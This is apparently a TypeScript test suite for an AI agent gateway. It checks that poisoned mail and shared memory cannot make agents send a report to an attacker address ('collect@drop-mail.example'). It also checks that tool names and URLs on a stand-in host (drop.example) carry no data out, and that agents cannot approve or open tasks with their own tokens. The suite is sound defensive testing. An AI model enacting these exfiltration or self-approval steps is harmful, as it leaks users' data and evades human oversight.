import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseConfig } from '@sallyport/gateway/app/config/config.ts';
import { startGateway } from '@sallyport/gateway/app/gateway.ts';
import { callerOf } from '../gateway/house.ts';
import { operatorOf } from '../gateway/operator.ts';
import { linesOf, temporaryFolder } from '../upstream/fixture.ts';

/** Two agents, one office whose memory outlives tasks, agents and the gateway itself; the shipped policies. */
const policies = new URL('../../policies', import.meta.url).pathname;
const main = new URL('./office-main.ts', import.meta.url).pathname;

interface Office extends AsyncDisposable {
  /** Calls a tool in an opened task of an agent's own. */
  readonly task: (
    agent: string,
    purpose: string,
  ) => Promise<(name: string, args?: object) => Promise<{ readonly isError?: boolean; readonly text: string }>>;
  /** A person says yes to all that waits. */
  readonly approveAll: () => Promise<void>;
  readonly url: string;
  readonly tokenOf: (agent: string) => Promise<string>;
}

async function openOffice(folder: { readonly file: (name: string) => string }): Promise<Office> {
  const written = `listen: 127.0.0.1:0\npolicies: ${policies}\nagents:\n  planner: { principal: "user:ines" }\n  doer: { principal: "user:bea" }\n`;
  const args = [main, folder.file('memory.json'), folder.file('sent')];
  const gateway = await startGateway({
    config: {
      ...parseConfig(folder.file('sallyport.yaml'), written),
      servers: [{ id: 'office', segment: 'office', launch: { kind: 'command', command: 'node', args, env: {} } }],
    },
    ...{ stateDir: folder.file('state'), version: '0.0.0', log: () => {}, onShutdown: () => {}, onFailure: () => {} },
  });
  const ask = operatorOf(gateway.url, folder.file('state'));
  const tokenOf = async (agent: string): Promise<string> =>
    (await ask<{ token: string }>(`agents/${agent}/token`, {})).token;
  return {
    url: gateway.url,
    tokenOf,
    approveAll: async () => {
      const { approvals } = await ask<{ approvals: { id: string }[] }>('approvals');
      for (const { id } of approvals) await ask(`approvals/${id}`, { answer: 'approved', why: 'test' });
    },
    task: async (agent, purpose) => {
      const { token } = await ask<{ token: string }>('tasks', { agent, purpose });
      const call = callerOf(`${gateway.url}/mcp/office`, await tokenOf(agent), token);
      return (name, args = {}) => call(name, args);
    },
    [Symbol.asyncDispose]: gateway.close,
  };
}

const attacker = 'collect@drop-mail.example';

test('F-4 what one agent was told and kept in a memory is no other agent’s order, also after a restart', async () => {
  using folder = temporaryFolder();
  {
    await using office = await openOffice(folder);
    const planner = await office.task('planner', 'Read the newest mail and remember the address it names as report.');
    assert.match((await planner('read_mail')).text, /drop-mail/);
    const note = { key: 'report', value: attacker };
    if ((await planner('remember', note)).text !== 'kept') {
      await office.approveAll();
      assert.equal((await planner('remember', note)).text, 'kept');
    }
  }
  await using office = await openOffice(folder);
  const doer = await office.task('doer', 'Send the weekly report.');
  assert.equal((await doer('recall', { key: 'report' })).text, attacker);
  const refused = await doer('send_mail', { to: attacker, body: 'Report of the week' });
  assert.match(refused.text, /^Refused office\/send_mail/);
  assert.deepEqual(linesOf(folder.file('sent')), []);
});

test('F-4 the same agent’s next task is no cleaner for having been told what to write', async () => {
  using folder = temporaryFolder();
  await using office = await openOffice(folder);
  const first = await office.task('planner', 'Read the newest mail and remember the address it names as report.');
  await first('read_mail');
  await first('remember', { key: 'report', value: attacker });
  const second = await office.task('planner', 'Send the weekly report to bea@aldana.example.');
  await second('recall', { key: 'report' });
  assert.equal((await second('send_mail', { to: 'bea@aldana.example', body: 'Report of the week' })).text, 'done');
  assert.match((await second('send_mail', { to: attacker, body: 'Report of the week' })).text, /^Refused/);
  assert.doesNotMatch(linesOf(folder.file('sent')).join('\n'), /drop-mail/);
});

test('F-5 names of tools, paths and labels of hosts carry nothing out', async () => {
  using folder = temporaryFolder();
  await using office = await openOffice(folder);
  const agent = await office.task('planner', 'Read the newest mail and tell me what it says.');
  await agent('read_mail');
  const leak = 'weekly-report-collect';
  assert.match((await agent(`send_${leak}`)).text, /^Refused/, 'a tool that nobody has');
  for (const url of [
    `https://drop.example/${leak}`,
    `https://${leak}.drop.example/`,
    `https://drop.example/?q=${leak}`,
  ])
    assert.match((await agent('fetch_page', { url })).text, /^Refused office\/fetch_page/, url);
  assert.deepEqual(linesOf(folder.file('sent')), []);
});

test('F-8 an agent cannot endorse, declassify, approve or open a task with its own proof', async () => {
  using folder = temporaryFolder();
  await using office = await openOffice(folder);
  const headers = { authorization: `Bearer ${await office.tokenOf('planner')}`, 'content-type': 'application/json' };
  for (const path of ['tasks', 'tasks/t_0/declassify', 'approvals/ap_0', 'approvals/ap_0/endorse', 'unkill']) {
    const init = { method: 'POST', headers, body: JSON.stringify({ agent: 'planner', purpose: 'anything' }) };
    const { status } = await fetch(`${office.url}/api/v1/${path}`, init);
    assert.ok(status === 401 || status === 403, `${path}: ${status}`);
  }
});
